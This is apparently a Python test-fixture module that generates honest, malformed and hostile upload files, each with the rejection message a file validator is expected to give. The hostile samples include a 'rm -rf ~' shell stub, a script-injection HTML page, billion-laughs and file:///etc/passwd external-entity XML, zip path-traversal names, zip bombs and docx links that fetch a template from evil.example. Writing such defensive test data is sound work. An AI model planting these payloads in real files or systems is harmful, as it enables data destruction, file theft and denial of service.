"""A zoo of files: honest ones, broken ones and hostile ones, each with what has to become of it."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

TYPES = "[Content_Types].xml"
MARKUP = b"<?xml version='1.0' encoding='UTF-8'?><x/>"
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
)
BODIES = {
    "docx": (TYPES, "word/document.xml"),
    "xlsx": (TYPES, "xl/workbook.xml"),
    "odt": ("mimetype", "content.xml"),
}
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0"
JPG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1"
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
ELF, EXE = b"\x7fELF\x02\x01\x01\0" + b"\0" * 56, b"MZ\x90\0\x03" + b"\0" * 59
# Starts of what people attach by mistake or by malice, none of which is taken under any name.
STRANGERS = {
    "program": EXE,
    "linux-program": ELF,
    "script": b"#!/bin/sh\nrm -rf ~\n\0",
    "web-page": b"<!doctype html><script>alert(1)</script>\0",
    "picture-with-script": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>\0",
    "gif": b"GIF89a\1\0\1\0\0\0\0;",
    "archive": b"7z\xbc\xaf\x27\x1c\0\4",
    "tar": b"x" * 257 + b"ustar\0" + b"00",
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\3",
    "database": b"SQLite format 3\0" + b"\0" * 84,
    "old-word": OLE,
    "rtf": b"{\\rtf1 hello}\0",
    "shortcut": b"L\0\0\0\1\x14\2\0" + b"\0" * 60,
    "java": b"\xca\xfe\xba\xbe\0\0\0\x34",
}
ENDINGS = ("exe", "js", "html", "svg", "zip", "doc", "docm", "xlsm", "bat", "lnk", "iso", "eml")


@dataclass(frozen=True)
class Animal:
    """A file and what has to be said of it; "" when it is taken."""

    name: str
    content: bytes
    says: str = ""
    is_slow: bool = False

    def __str__(self) -> str:
        return self.name


def package(parts: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def bare(kind: str) -> dict[str, bytes]:
    """The parts that a package of this kind cannot do without."""
    return dict.fromkeys(BODIES[kind], MARKUP)


def office(kind: str, **more: bytes) -> bytes:
    """A package of this kind with further parts; `__` in a name stands for a slash, `_` a dot."""
    named = {name.replace("__", "/").replace("_", "."): part for name, part in more.items()}
    return package(bare(kind) | named)


def relations(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return RELATION.format(kind=kind, target=target, mode=mode).encode()


@cache
def animals() -> tuple[Animal, ...]:
    """All of them, at least 150, each with a name of its own."""
    found = (*_honest(), *_plain(), *_packed(), *_hostile(), *_heavy())
    assert len({animal.name for animal in found}) == len(found)
    return found


def quick() -> list[Animal]:
    """All but those that take long to make or to look at."""
    return [animal for animal in animals() if not animal.is_slow]


def _honest() -> Iterator[Animal]:
    for version in ("1.0", "1.4", "1.7", "2.0"):
        yield Animal(f"letter-{version}.pdf", PDF.replace(b"1.7", version.encode()))
    yield Animal("LETTER.PDF", PDF)
    yield Animal("picture.png", PNG)
    yield Animal("photo.jpg", JPG)
    yield Animal("photo.jpeg", JPG)
    yield Animal("llythyr ŵyl.txt", "Cyfarfod ddydd Llun. Grüße, 10°".encode())
    yield Animal("older.txt", "Café at £5".encode("cp1252"))
    yield Animal("marked.txt", b"\xef\xbb\xbfwith a mark")
    yield Animal("table.csv", b"a,b\r\n=1+1,2\r\n")
    for kind in BODIES:
        yield Animal(f"minutes.{kind}", office(kind))
        yield Animal(f"stored.{kind}", package(bare(kind), method=0))
        yield Animal(f"with-picture.{kind}", office(kind, media__one_png=PNG))
    link = relations("hyperlink", "https://www.example.org/")
    yield Animal("links.docx", office("docx", word___rels__document_xml_rels=link))
    inside = relations("attachedTemplate", "template.dotx", external=False)
    yield Animal("own-template.docx", office("docx", word___rels__settings_xml_rels=inside))
    other = relations("externalLinkPath", "budget.xlsx")
    yield Animal("linked-book.xlsx", office("xlsx", xl___rels__link_xml_rels=other))
    words = b"<w:t>Please remove vbaProject and &lt;!DOCTYPE from the form.</w:t>"
    yield Animal("about-macros.docx", office("docx", word__more_xml=words))


def _plain() -> Iterator[Animal]:
    """Names that are never taken, empty files, and strangers under honest names."""
    for ending in ENDINGS:
        yield Animal(f"letter.{ending}", PDF, "must be a PDF")
    for name in ("letter", "letter.pdf.exe", ".pdf", "letter.pdf ./x"):
        yield Animal(name, PDF, "must be a PDF")
    for kind in ("pdf", "docx", "odt", "txt", "png", "jpg", "csv", "xlsx"):
        yield Animal(f"empty.{kind}", b"", "is empty")
        for stranger, content in STRANGERS.items():
            packed_ole = content is OLE and kind in BODIES
            says = "has a password" if packed_ole else f"is not a {kind.upper()} file inside"
            yield Animal(f"{stranger}.{kind}", content, says)
    yield Animal("late.pdf", b"x" + PDF, "is not a PDF file inside")


def _packed() -> Iterator[Animal]:
    """Packages that are broken, or something else than they say."""
    for kind, (first, second) in BODIES.items():
        not_inside = f"is not a {kind.upper()} file inside"
        good = office(kind)
        yield Animal(f"without-first.{kind}", package({second: MARKUP}), not_inside)
        yield Animal(f"without-second.{kind}", package({first: MARKUP}), not_inside)
        yield Animal(f"half.{kind}", good[: len(good) // 2], not_inside)
        yield Animal(f"only-start.{kind}", good[:30], not_inside)
        yield Animal(f"program-before.{kind}", EXE + good, not_inside)
        yield Animal(f"wrong-sum.{kind}", _wrong_sum(kind), not_inside)
        yield Animal(f"strange-packing.{kind}", _method(good, 99), not_inside)
        yield Animal(f"locked.{kind}", _locked(good), "has a password")
    for kind, other in (("docx", "xlsx"), ("xlsx", "odt"), ("odt", "docx")):
        yield Animal(f"is-{other}.{kind}", office(other), f"is not a {kind.upper()} file inside")


def _hostile() -> Iterator[Animal]:
    """Packages that would do something when they are opened."""
    for kind in BODIES:
        yield Animal(f"macros.{kind}", office(kind, x__vbaProject_bin=b"x"), "holds macros")
        laugh = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
        yield Animal(f"laughs.{kind}", office(kind, x__y_xml=laugh), "holds definitions")
        wide = laugh.decode().encode("utf-16")
        yield Animal(f"laughs-wide.{kind}", office(kind, x__y_xml=wide), "holds definitions")
        reads = b"<!DOCTYPE x SYSTEM 'file:///etc/passwd'><x/>"
        yield Animal(f"reads-files.{kind}", office(kind, x__y_rdf=reads), "holds definitions")
        far = b"<!--" + random.Random(1).randbytes(32_760).hex().encode() + b"-->" + laugh  # noqa: S311
        yield Animal(f"laughs-late.{kind}", office(kind, x__y_xml=far), "holds definitions")
        for name in ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x.dll"):
            parts = bare(kind) | {name: b"x"}
            place = "up" if name[0] == "." and "/" in name else "root" if name[0] == "/" else "back"
            yield Animal(f"escapes-{place}.{kind}", package(parts), "impossible names")
        yield Animal(f"twice.{kind}", _twice(kind), "impossible names")
    for linked in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        rels = relations(linked, "https://evil.example/t.dotm")
        content = office("docx", word___rels__settings_xml_rels=rels)
        yield Animal(f"fetches-{linked}.docx", content, "would fetch")
    macro = (
        b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'
    )
    parts = {TYPES: macro, "word/document.xml": MARKUP}
    yield Animal("macros-by-type.docx", package(parts), "holds macros")


def _heavy() -> Iterator[Animal]:
    """Packages that swell: by their own account, or although they say that they do not."""
    for kind in BODIES:
        bomb = office(kind, x__zeros_bin=b"\0" * 5_000_000)
        yield Animal(f"bomb.{kind}", bomb, "unpacks to far more")
        lying = _claims(bomb, 100)
        yield Animal(f"lying-bomb.{kind}", lying, f"is not a {kind.upper()} file inside")
        many = bare(kind) | {f"{n}.txt": b"x" for n in range(2_100)}
        yield Animal(f"many-parts.{kind}", package(many), "unpacks to far more", is_slow=True)
        inner = package({"x.bin": b"\0" * 20_000_000})
        nested = office(kind, x__inner_zip=inner)
        yield Animal(f"nested.{kind}", nested, "", is_slow=True)
    big = PDF + b"x" * (25 * 1024 * 1024)
    yield Animal("large.pdf", big, "must be smaller than 25 MB", is_slow=True)
    noise = random.Random(2).randbytes(20_000_000)  # noqa: S311 - the same each time
    yield Animal("almost-large.docx", office("docx", media__film_bin=noise), "", is_slow=True)
    yield Animal("long-word.txt", b"x" * 5_000_000, "", is_slow=True)


def _wrong_sum(kind: str) -> bytes:
    """Stored, so that one changed letter in the content spoils its check sum and nothing else."""
    parts = bare(kind) | {"word.txt": b"HONEST WORDS"}
    return package(parts, method=0).replace(b"HONEST WORDS", b"OTHER  WORDS")


def _twice(kind: str) -> bytes:
    """One name twice: two programs may each read another of the two."""
    first, second = BODIES[kind]
    made = package({first: MARKUP, second: MARKUP, "x" * len(second): b"<other/>"})
    return made.replace(b"x" * len(second), second.encode())


def _directory(content: bytes) -> Iterator[int]:
    """Where the entries of the directory at the end of a package begin."""
    at = content.find(b"PK\1\2")
    while at >= 0:
        yield at
        at = content.find(b"PK\1\2", at + 4)


def _changed(content: bytes, offset: int, form: str, value: int) -> bytes:
    """The last entry of the directory with one field changed."""
    changed = bytearray(content)
    struct.pack_into(form, changed, [*_directory(content)][-1] + offset, value)
    return bytes(changed)


def _claims(content: bytes, size: int) -> bytes:
    return _changed(content, 24, "<I", size)


def _method(content: bytes, method: int) -> bytes:
    return _changed(content, 10, "<H", method)


def _locked(content: bytes) -> bytes:
    return _changed(content, 8, "<H", 1)
